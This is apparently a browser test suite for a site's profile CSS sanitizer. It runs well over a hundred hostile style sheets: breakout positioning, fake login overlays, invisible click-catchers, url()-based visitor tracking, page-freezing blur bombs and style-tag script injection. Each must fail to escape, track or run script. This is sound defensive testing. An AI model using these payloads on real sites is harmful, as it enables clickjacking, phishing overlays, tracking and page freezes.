// Hostile profile CSS in real Chromium: a corpus of well over a hundred style sheets that try
// to leave the profile's box, cover or hide the site's controls, track visitors or freeze the
// page. Each is saved by its owner, then the profile is opened by a logged-in member (and,
// for a good share of them, by a visitor) and checked against the page without profile CSS:
//   - no script runs, and no request leaves the site;
//   - the site header and nav keep their geometry and pixels, and each of their links is the
//     topmost element at its centre;
//   - nothing is painted outside the profile's frame (a full-page screenshot with the frame
//     masked is the same whether the frame's content is drawn or not);
//   - the member's follow and block buttons are visible and topmost at their centres;
//   - the first frame is painted within 1 s, and a frame after that takes under 1 s too.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { startServer, launchBrowser, hydrated, signUp } from './support.js';

let server;
let browser;
let images;
let owner;
let member;
let visitor;

// A 2×2 pink PNG that the owner's CSS may name: it is on another host (a loopback server of
// this test), which a viewer's browser must never contact.
const TILE = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAEElEQVR4nGP4f+A0EDFAKABH9gopDAKD+AAAAABJRU5ErkJggg==', 'base64');

before(async () => {
  images = createServer((request, response) => {
    response.writeHead(200, { 'content-type': 'image/png' });
    response.end(TILE);
  });
  await new Promise((done) => images.listen(0, '127.0.0.1', done));
  // Private addresses allowed: the server may fetch the owner's images from the loopback host.
  server = await startServer({ env: { ALLOW_PRIVATE_ADDRESSES: 'true' } });
  browser = await launchBrowser();
  owner = await browser.newContext();
  await signUp(await owner.newPage(), server.url, 'dresser');
  member = await browser.newContext();
  await signUp(await member.newPage(), server.url, 'guest');
  visitor = await browser.newContext();
  // A thought, so the profile's own list has something the owner's CSS must not cover.
  const page = owner.pages()[0];
  const status = await page.evaluate(() => fetch('/api/thoughts/post', {
    method: 'POST', body: new URLSearchParams({ content: 'my first thought', visibility: 'public' }),
  }).then((r) => r.status));
  assert.equal(status, 200);
});

after(async () => {
  await browser?.close();
  images?.close();
  if (server) assert.equal((await server.stop()).code, 0);
});

const imageUrl = () => `http://127.0.0.1:${images.address().port}/tile.png`;

/** The owner saves `css` through the same server function as the settings form. */
async function saveCss(css) {
  const page = owner.pages()[0];
  return page.evaluate((custom_css) => fetch('/api/profiles/css', {
    method: 'POST', body: new URLSearchParams({ custom_css }),
  }).then((r) => r.status), css);
}

/** One tab per viewer, reused: what each load requested and which dialogs opened. */
const tabs = new Map();
async function tab(context) {
  if (!tabs.has(context)) {
    const page = await context.newPage();
    const tab = { page, foreign: [], dialogs: [] };
    page.on('request', (request) => {
      const url = request.url();
      if (!url.startsWith(server.url) && !url.startsWith('data:')) tab.foreign.push(url);
    });
    page.on('dialog', async (dialog) => { tab.dialogs.push(dialog.message()); await dialog.dismiss(); });
    // Tall enough that the header, the box and the controls below it fit in the screenshots.
    await page.setViewportSize({ width: 1100, height: 1400 });
    tabs.set(context, tab);
  }
  const current = tabs.get(context);
  current.foreign.length = 0;
  current.dialogs.length = 0;
  return current;
}

/** Opens the profile in `context` and measures what the checks compare. */
async function look(context, { hover = false } = {}) {
  const { page, foreign, dialogs } = await tab(context);
  // Chromium slows the frames of a tab in the background: the one measured is in front.
  await page.bringToFront();
  await page.goto(`${server.url}/@dresser`, { waitUntil: 'load' });
  // Hydrated, so that nothing of the page itself changes between the screenshots.
  await hydrated(page);
  if (hover) {
    // State the visitor creates (hovering a Top Friend, a link) must not be reported anywhere.
    await page.hover('.profile-frame a', { timeout: 1000 }).catch(() => {});
    await page.mouse.move(0, 0);
    await page.evaluate(() => window.scrollTo(0, 0));
  }
  const timing = await page.evaluate(() => {
    const start = performance.now();
    const nextFrame = new Promise((resolve) => {
      requestAnimationFrame(() => requestAnimationFrame(() => resolve(performance.now() - start)));
    });
    // The paint entry is reported asynchronously, sometimes after 'load' and hydration:
    // wait for it (buffered, so one already reported counts); never painted within the
    // deadline counts as infinitely slow.
    const firstPaint = new Promise((resolve) => {
      new PerformanceObserver((list, observer) => {
        const paint = list.getEntriesByName('first-contentful-paint')[0];
        if (paint) {
          observer.disconnect();
          resolve(paint.startTime);
        }
      }).observe({ type: 'paint', buffered: true });
      setTimeout(() => resolve(Infinity), 5000);
    });
    return Promise.all([firstPaint, nextFrame]).then(([paint, frame]) => ({ firstPaint: paint, nextFrame: frame }));
  });
  const geometry = await page.evaluate(() => {
    const box = (el) => { const r = el.getBoundingClientRect(); return [r.x, r.y, r.width, r.height].map(Math.round); };
    const topmost = (el) => {
      const r = el.getBoundingClientRect();
      const hit = document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2);
      return Boolean(hit && (hit === el || el.contains(hit)));
    };
    const header = document.querySelector('.site-header');
    const links = [...header.querySelectorAll('a, button, input')].filter((el) => el.getClientRects().length > 0);
    const controls = [...document.querySelectorAll('.profile-controls button')];
    const reachable = (el) => { el.scrollIntoView({ block: 'center' }); const result = topmost(el); window.scrollTo(0, 0); return result; };
    return {
      header: box(header),
      links: links.map((el) => ({ name: el.textContent.trim() || el.getAttribute('aria-label') || el.name, box: box(el), topmost: topmost(el) })),
      controls: controls.map((el) => ({ name: el.textContent.trim(), visible: el.checkVisibility({ opacityProperty: true, visibilityProperty: true }), topmost: reachable(el) })),
      pwned: window.__pwned,
    };
  });
  const headerRect = await page.locator('.site-header').boundingBox();
  const headerPixels = await page.screenshot({ clip: headerRect, animations: 'disabled' });
  // Outside the frame: the whole page with the frame's area masked, once as it is and once
  // with everything the frame holds made transparent (the owner cannot undo the frame's
  // opacity). Any difference was painted outside the frame by its content.
  const frame = page.locator('.profile-frame');
  const shot = () => page.screenshot({ animations: 'disabled', mask: [frame], maskColor: '#00ff00' });
  const drawn = await shot();
  await frame.evaluate((el) => { el.style.opacity = '0'; });
  const hidden = await shot();
  return { foreign, dialogs, timing, geometry, headerPixels, outsideUnchanged: await same(drawn, hidden) };
}

/** How two screenshots differ: the number of pixels that differ at all, and the largest
 *  difference of any channel (decoded by the browser, which has a PNG decoder at hand). */
let comparer;
async function difference(a, b) {
  if (!comparer) comparer = await (await browser.newContext()).newPage();
  return comparer.evaluate(async ([a, b]) => {
    const pixels = async (png) => {
      const image = await createImageBitmap(await (await fetch(`data:image/png;base64,${png}`)).blob());
      const canvas = new OffscreenCanvas(image.width, image.height);
      const context = canvas.getContext('2d');
      context.drawImage(image, 0, 0);
      return context.getImageData(0, 0, image.width, image.height);
    };
    const [first, second] = [await pixels(a), await pixels(b)];
    if (first.width !== second.width || first.height !== second.height) return { pixels: Infinity, most: 255 };
    let count = 0;
    let most = 0;
    for (let i = 0; i < first.data.length; i += 4) {
      const channel = Math.max(...[0, 1, 2, 3].map((k) => Math.abs(first.data[i + k] - second.data[i + k])));
      if (channel > 0) count += 1;
      most = Math.max(most, channel);
    }
    return { pixels: count, most };
  }, [a.toString('base64'), b.toString('base64')]);
}

/** Whether two screenshots show the same thing. Chromium's rasterizer may redraw a few
 *  anti-aliased pixels of the header's text slightly differently between two shots; anything
 *  an owner paints (even an overlay at 1 % opacity) changes far more pixels than that. */
async function same(a, b) {
  if (a.equals(b)) return true;
  const { pixels, most } = await difference(a, b);
  return pixels <= 16 && most <= 48;
}

let baseline;

test('the page without profile CSS: the reference, and the checks can see a leak', async () => {
  assert.equal(await saveCss(''), 200);
  baseline = { visitor: await look(visitor), member: await look(member) };
  assert.deepEqual(baseline.member.geometry.controls.map((c) => c.name), ['Follow', 'Mute', 'Block']);
  assert.ok(baseline.member.geometry.controls.every((c) => c.visible && c.topmost));
  assert.ok(baseline.visitor.geometry.links.length >= 3, 'the header has links to check');
  assert.ok(baseline.visitor.outsideUnchanged);

  // The outside comparison notices paint that escapes (the frame's guard taken away by the
  // test itself, then a shadow drawn over the page).
  const { page } = await tab(visitor);
  await page.goto(`${server.url}/@dresser`, { waitUntil: 'load' });
  await hydrated(page);
  await page.evaluate(() => {
    const frame = document.querySelector('.profile-frame');
    frame.style.contain = 'none';
    frame.style.overflow = 'visible';
    document.querySelector('.ts-profile').style.boxShadow = '0 0 0 60px red';
  });
  const frame = page.locator('.profile-frame');
  const shot = () => page.screenshot({ animations: 'disabled', mask: [frame], maskColor: '#00ff00' });
  const drawn = await shot();
  await frame.evaluate((el) => { el.style.opacity = '0'; });
  assert.ok(!(await same(drawn, await shot())), 'an escaping shadow is seen');
});

// ---- The corpus ------------------------------------------------------------------------------

// What the owner's CSS can select: the box itself (as html/body/:root), parts of it, everything.
const TARGETS = ['body', '.profile-card', '*'];
// Declarations that moved, covered or painted outside the box before (and more of the kind).
const BREAKOUTS = [
  'position: relative; top: -600px',
  'position: absolute; inset: 0; z-index: 2147483647',
  'position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 99999; background: red',
  'position: sticky; top: 0; z-index: 9999',
  'margin-top: -800px',
  'margin: -500px 0 0 -100vw',
  'transform: translateY(-500px)',
  'transform: scale(10)',
  'translate: 0 -400px',
  'scale: 20',
  'rotate: 180deg; transform-origin: 0 0',
  'transform: perspective(10px) translateZ(-50px)',
  'opacity: 0; position: absolute; top: -300px; left: 0; width: 3000px; height: 2000px',
  'box-shadow: 0 0 0 100vmax rgba(255, 0, 0, .9)',
  'box-shadow: 0 -700px 0 0 red',
  'outline: 2000px solid red',
  'outline: 10px solid red; outline-offset: 500px',
  'border: 10px solid red; border-image: linear-gradient(red, blue) 30; border-image-outset: 300px',
  'filter: drop-shadow(0 -400px 0 red)',
  'text-shadow: 0 -500px 0 red',
  'display: contents',
  'all: unset',
  'display: none',
  'width: 10000px',
  'height: 30000px; background: red',
  'zoom: 5',
  'clip-path: inset(-500px)',
  'mix-blend-mode: difference; background: white',
  'float: left; margin: -500px 0 0 -500px',
  'text-indent: -10000px',
  'font-size: 300px',
  'will-change: transform; transform: translate(-50vw, -50vh)',
  'direction: rtl; margin-right: -5000px',
  'contain: none; overflow: visible; isolation: auto; position: static',
];

const corpus = [];
for (const declarations of BREAKOUTS) {
  for (const target of TARGETS) corpus.push([`${target} { ${declarations} }`, `${target} { ${declarations.slice(0, 40)} }`]);
}

// Overlays, from pseudo-elements and from inside the box, visible and invisible.
corpus.push(
  ['.profile-card::before { content: "Log in"; position: fixed; top: 0; left: 0; right: 0; height: 80px; z-index: 2147483647; background: white }', 'a fake header over the real one'],
  ['body::after { content: ""; position: absolute; top: -2000px; left: -2000px; right: -2000px; bottom: -2000px; opacity: 0; z-index: 99999 }', 'an invisible click-catcher'],
  ['.top-friend a { position: absolute; top: -400px; left: 0; width: 100vw; height: 200px; opacity: .01 }', 'a friend link moved where the nav was'],
  ['h1 { position: absolute; top: -90px; left: 0; font-size: 60px }', 'the name moved over the header'],
  ['* { display: none !important }', 'everything hidden'],
  ['body * { visibility: hidden } body { visibility: visible }', 'everything invisible'],
  ['.profile-controls, .follow-form, button, form { display: none !important; visibility: hidden !important }', 'the site controls hidden by name'],
  ['body ~ *, html ~ *, :root ~ * { display: none }', 'siblings of the box'],
  ['.site-header, header, nav, main, .profile-page, .profile-frame { display: none !important }', 'the page around the box by name'],
  [':root:has(button) { display: none }', ':has() over the page'],
);

// Animations of what escaped, fast and forever.
corpus.push(
  ['@keyframes up { from { transform: translateY(0) } to { transform: translateY(-900px) } } body { animation: up .1s infinite alternate }', 'an animated transform'],
  ['@keyframes jump { to { top: -900px; margin-top: -900px } } .profile-card { position: relative; animation: jump 1s infinite }', 'animated offsets'],
  ['@keyframes glow { to { box-shadow: 0 0 0 3000px red; outline: 3000px solid red } } body { animation: glow 1s infinite }', 'an animated shadow'],
);

// Tracking: every way CSS can make the viewer's browser fetch from another host.
const REMOTE = () => imageUrl();
const tracking = () => [
  [`body { background: url(${REMOTE()}) }`, 'a background image'],
  [`body { background-image: image-set(url(${REMOTE()}) 1x, url(${REMOTE()}?2) 2x) }`, 'image-set()'],
  [`body { background-image: -webkit-image-set(url(${REMOTE()}) 1x) }`, '-webkit-image-set()'],
  [`body { cursor: url(${REMOTE()}), auto }`, 'a cursor'],
  [`body { mask-image: url(${REMOTE()}) }`, 'a mask'],
  [`body { -webkit-mask-image: url(${REMOTE()}) }`, 'a -webkit- mask'],
  [`li { list-style-image: url(${REMOTE()}) }`, 'a list marker'],
  [`body { border: 10px solid; border-image: url(${REMOTE()}) 30 }`, 'a border image'],
  [`h1::before { content: url(${REMOTE()}) }`, 'generated content'],
  [`@import url(${REMOTE()}?css);`, '@import'],
  [`@font-face { font-family: spy; src: url(${REMOTE()}?font) } body { font-family: spy }`, '@font-face'],
  [`.top-friend a:hover { background: url(${REMOTE()}?hover) }`, 'an image on hover'],
  [`a[href*="d"] { background: url(${REMOTE()}?attr) }`, 'an attribute selector'],
  [`:root:has(.profile-controls) body { background: url(${REMOTE()}?member) }`, ':has() telling members from visitors'],
  [`input[value] ~ * { background: url(${REMOTE()}?input) }`, 'form state'],
  [`body { background: url("//127.0.0.1:${images.address().port}/tile.png?protocol-relative") }`, 'a protocol-relative URL'],
  [`body { background: url(https://img.example/remote.png) }`, 'an https host that does not resolve'],
  [`body { background: url(ht\\74p://127.0.0.1:${images.address().port}/tile.png?escaped) }`, 'an escaped scheme'],
  [`body { --spy: url(${REMOTE()}?var); background: var(--spy) }`, 'a URL through var()'],
  [`body { filter: url(${REMOTE()}?filter#f) }`, 'an SVG filter'],
  [`body { clip-path: url(${REMOTE()}?clip#c) }`, 'an SVG clip path'],
  [`body { shape-outside: url(${REMOTE()}?shape); float: left }`, 'shape-outside'],
  [`body { background: cross-fade(url(${REMOTE()}?cf), red 50%) }`, 'cross-fade()'],
  [`body { background: element(#site-header) }`, 'element()'],
  [`@namespace url(${REMOTE()}?ns); body { color: red }`, '@namespace'],
];

// Page freezers.
const BOMBS = [
  ['* { filter: blur(100px) drop-shadow(0 0 80px red) drop-shadow(0 0 80px blue) drop-shadow(0 0 80px green) }', 'blur and shadows on everything'],
  [`* { box-shadow: ${Array.from({ length: 40 }, (_, i) => `0 0 ${100 + i}px ${i}px rgba(0,0,0,.1)`).join(', ')} }`, 'dozens of blurred shadows'],
  [`* { text-shadow: ${Array.from({ length: 40 }, (_, i) => `0 0 ${50 + i}px red`).join(', ')} }`, 'dozens of text shadows'],
  ['@keyframes b { from { filter: blur(0) } to { filter: blur(200px) } } body { width: 5000px; height: 5000px; animation: b .05s infinite }', 'an endless animation of a large blur'],
  ['* { backdrop-filter: blur(100px) saturate(3) }', 'backdrop filters everywhere'],
  ['body { filter: blur(9999px) }', 'an enormous blur'],
  ['body { height: 200000px; background: repeating-radial-gradient(circle, red 0 1px, blue 1px 2px) }', 'a huge gradient'],
];

// Script, old and new ways.
const SCRIPTS = [
  ["p::after { content: '</style><script>window.__pwned=1</script>' }", 'ending the style element'],
  ["body { background: url('javascript:window.__pwned=2') }", 'a javascript: URL'],
  ['body { behavior: url(x.htc); -moz-binding: url(x.xml#x) }', 'behaviours and bindings'],
  ['body { width: expression(window.__pwned=3) }', 'expression()'],
  ['</style><script>window.__pwned=4</script>', 'raw markup'],
];

test("an owner's image is copied to the site and shown from there", async () => {
  assert.equal(await saveCss(`body { background: pink url(${imageUrl()}) repeat }`), 200);
  const page = await visitor.newPage();
  const requested = [];
  page.on('request', (request) => requested.push(request.url()));
  await page.goto(`${server.url}/@dresser`);
  await page.waitForFunction(() => getComputedStyle(document.querySelector('.ts-profile')).backgroundImage.startsWith('url('));
  const background = await page.evaluate(() => getComputedStyle(document.querySelector('.ts-profile')).backgroundImage);
  assert.ok(background.startsWith(`url("${server.url}/`), background);
  assert.ok(requested.every((url) => url.startsWith(server.url) || url.startsWith('data:')), requested.join(' '));
  await page.close();
});

test('a corpus of hostile profile CSS cannot leave the box, hide the controls, track or freeze', async () => {
  // Every sheet is seen by a member (who also has the follow and block buttons); those whose
  // effect could depend on who looks (tracking, script, overlays, :has()) and every fourth of
  // the rest by a visitor too.
  const everyone = new Set([...corpus.slice(BREAKOUTS.length * TARGETS.length), ...tracking(), ...SCRIPTS].map(([css]) => css));
  const cases = [...corpus, ...tracking(), ...BOMBS, ...SCRIPTS];
  assert.ok(cases.length >= 100, `the corpus has ${cases.length} cases`);
  const failures = [];
  const started = Date.now();
  let views = 0;
  for (const [index, [css, name]] of cases.entries()) {
    const status = await saveCss(css);
    if (![200, 422].includes(status)) {
      failures.push(`${name}: saving answered ${status}`);
      continue;
    }
    const viewers = everyone.has(css) || index % 4 === 0 ? [['visitor', visitor], ['member', member]] : [['member', member]];
    for (const [who, context] of viewers) {
      views += 1;
      const seen = await look(context, { hover: everyone.has(css) });
      const reference = baseline[who];
      const problems = [];
      if (seen.geometry.pwned !== undefined || seen.dialogs.length) problems.push('script ran');
      if (seen.foreign.length) problems.push(`requests left the site: ${seen.foreign.join(' ')}`);
      if (JSON.stringify(seen.geometry.header) !== JSON.stringify(reference.geometry.header)) problems.push('the header moved');
      if (JSON.stringify(seen.geometry.links.map((l) => [l.name, l.box])) !== JSON.stringify(reference.geometry.links.map((l) => [l.name, l.box]))) {
        problems.push('the nav changed');
      }
      const covered = seen.geometry.links.filter((l) => !l.topmost).map((l) => l.name);
      if (covered.length) problems.push(`covered in the header: ${covered.join(', ')}`);
      if (!(await same(seen.headerPixels, reference.headerPixels))) problems.push('the header looks different');
      if (!seen.outsideUnchanged) problems.push('painted outside the profile');
      if (who === 'member') {
        const controls = seen.geometry.controls;
        if (controls.length !== reference.geometry.controls.length || !controls.every((c) => c.visible && c.topmost)) {
          problems.push(`controls: ${JSON.stringify(controls)}`);
        }
      }
      if (seen.timing.firstPaint > 1000 || seen.timing.nextFrame > 1000) problems.push(`slow: ${JSON.stringify(seen.timing)}`);
      if (problems.length) failures.push(`${name} (${who}): ${problems.join('; ')}`);
    }
  }
  console.log(`# ${cases.length} style sheets, ${views} views in ${Math.round((Date.now() - started) / 1000)} s`);
  assert.deepEqual(failures, [], `${failures.length} of ${views} views failed`);
});

